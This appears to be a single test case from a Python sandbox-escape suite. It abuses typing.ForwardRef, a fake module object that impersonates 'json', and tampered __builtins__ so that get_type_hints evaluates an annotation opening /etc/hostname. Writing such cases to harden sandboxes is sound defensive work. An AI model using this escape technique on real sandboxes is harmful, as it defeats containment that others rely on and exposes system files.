"""No annotation is evaluated among a library"s variables because the module that it names is one of the app"s."""

CLASS = "eval"
BOUNDARY = "both"
NEEDS = ("typing",)


import typing


class AppModule:
    def __hash__(self):
        return hash("json")

    def __eq__(self, other):
        return other == "json"


def attack():
    kind = type(typing.get_args(typing.List["int"])[0])
    module = AppModule()
    vars(module)["__builtins__"] = ("_getattr_",)
    reference = kind("open('/etc/hostname').read", module=module)

    class Holder:
        x: reference

    return "ESCAPED: " + typing.get_type_hints(Holder)["x"](20)
